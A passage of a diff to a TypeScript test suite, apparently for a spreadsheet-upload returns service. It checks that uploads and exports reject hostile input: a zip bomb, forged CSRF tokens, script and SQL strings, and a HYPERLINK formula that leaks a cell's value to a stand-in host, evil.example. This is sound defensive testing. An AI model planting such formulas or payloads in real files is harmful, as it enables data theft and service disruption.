+          sheet.getCell(FIRST, 11).value = SCRIPT;
+        }),
       ),
       file("a zip bomb: 50 MB of zeros in one entry", () =>
         rezipped((zip) => void zip.file("xl/media/padding.bin", new Uint8Array(50 * 1024 * 1024)), 9),
@@ -811,7 +1011,10 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
       file("a large shared-strings table in another authority's template", async () => {
         const zip = await JSZip.loadAsync(templates.newport);
         const strings = Array.from({ length: 150_000 }, (_, i) => `<si><t>s${i}</t></si>`).join("");
-        zip.file("xl/sharedStrings.xml", `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${strings}</sst>`);
+        zip.file(
+          "xl/sharedStrings.xml",
+          `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${strings}</sst>`,
+        );
         return zip.generateAsync({ type: "nodebuffer", compression: "DEFLATE" });
       }),
       file("a zip of 500 entries", () =>
@@ -827,7 +1030,10 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
       }),
       file("a file of 3 MB", () => new Uint8Array(3 * 1024 * 1024).fill(0x50)),
       upload("the form posted as urlencoded, not multipart", () => ({ fields: { csrf: v.cardiff.csrf, workbook: "bytes" } })),
-      upload("a wrong CSRF token with a good template", () => ({ raw: multipart(templates.cardiff, { csrf: "forged" }), contentType: null })),
+      upload("a wrong CSRF token with a good template", () => ({
+        raw: multipart(templates.cardiff, { csrf: "forged" }),
+        contentType: null,
+      })),
       upload("no CSRF token with a good template", () => {
         const form = new FormData();
         form.append("workbook", new Blob([templates.cardiff as BlobPart]), "returns.xlsx");
@@ -868,7 +1074,7 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
       importCase("markup and SQL in every cell", async () => {
         const wb = new ExcelJS.Workbook();
         const sheet = wb.addWorksheet("Data");
-        for (let r = 0; r < 10; r++) sheet.addRow([SCRIPT, SQL[0], IMG, NUL, { formula: "HYPERLINK(\"http://evil.example\")" }]);
+        for (let r = 0; r < 10; r++) sheet.addRow([SCRIPT, SQL[0], IMG, NUL, { formula: 'HYPERLINK("http://evil.example")' }]);
         return Buffer.from(await wb.xlsx.writeBuffer());
       }),
     ];
@@ -878,7 +1084,12 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
   describe("answers that hold markup or formulas, once saved and submitted", () => {
     const FORMULA = `=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`;
     beforeAll(async () => {
-      const explained = (number: string, extra: Record<string, string> = {}) => ({ state: "reported", number, queryExplanation: "Checked.", ...extra });
+      const explained = (number: string, extra: Record<string, string> = {}) => ({
+        state: "reported",
+        number,
+        queryExplanation: "Checked.",
+        ...extra,
+      });
       const fields = formAnswers(
         {
           [ITEM]: explained("120", { caveat: SCRIPT }),
@@ -908,7 +1119,12 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
         checkRoute.action({
           request: new Request(`http://localhost/returns/${OPEN_ROUND}/${CARDIFF}/check`, {
             method: "POST",
-            body: new URLSearchParams({ csrf: v.cardiff.csrf, lockVersion: String(lock.cardiff + 1), signedOffName: SCRIPT, signedOffRole: IMG }),
+            body: new URLSearchParams({
+              csrf: v.cardiff.csrf,
+              lockVersion: String(lock.cardiff + 1),
+              signedOffName: SCRIPT,
+              signedOffRole: IMG,
+            }),
             headers: { Cookie: v.cardiff.cookie, "Content-Type": "application/x-www-form-urlencoded" },
           }),
           params: openCardiff(),
@@ -953,7 +1169,10 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
       })) as Response;
       const { parse } = await import("csv-parse/sync");
       const cells = (parse((await response.text()).replace(/^\uFEFF/, "")) as string[][]).flat();
-      expect(cells.some((cell) => cell.includes("HYPERLINK")), "the formula's text is in the export").toBe(true);
+      expect(
+        cells.some((cell) => cell.includes("HYPERLINK")),
+        "the formula's text is in the export",
+      ).toBe(true);
       // OWASP's CSV injection advice: a cell that starts with = + - @ (or a tab or carriage return) is a formula to Excel.
       expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
     });
@@ -967,7 +1186,8 @@ describe("bad input: every form refuses what it cannot take, and changes nothing
 /** Which tables differ between two snapshots, with the first difference in each. */
 function changedParts(before: string, after: string) {
   const [a, b] = [JSON.parse(before) as Record<string, unknown>, JSON.parse(after) as Record<string, unknown>];
-  const parts = (x: Record<string, unknown>) => ({ ...JSON.parse(x.returns as string), ...x, returns: undefined }) as Record<string, unknown>;
+  const parts = (x: Record<string, unknown>) =>
+    ({ ...JSON.parse(x.returns as string), ...x, returns: undefined }) as Record<string, unknown>;
   const [pa, pb] = [parts(a), parts(b)];
   return Object.keys({ ...pa, ...pb })
     .filter((key) => JSON.stringify(pa[key]) !== JSON.stringify(pb[key]))
